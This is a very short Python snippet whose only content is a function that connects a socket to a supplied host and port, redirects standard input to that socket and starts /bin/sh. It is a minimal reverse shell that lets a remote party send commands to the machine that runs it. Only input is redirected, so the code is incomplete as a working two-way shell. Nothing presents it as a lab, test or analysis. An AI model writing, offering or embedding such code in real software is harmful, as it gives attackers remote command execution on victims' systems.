import socket, subprocess, os

def connect(host, port):
    s = socket.socket()
    s.connect((host, port))
    os.dup2(s.fileno(), 0)
    subprocess.call(['/bin/sh'])
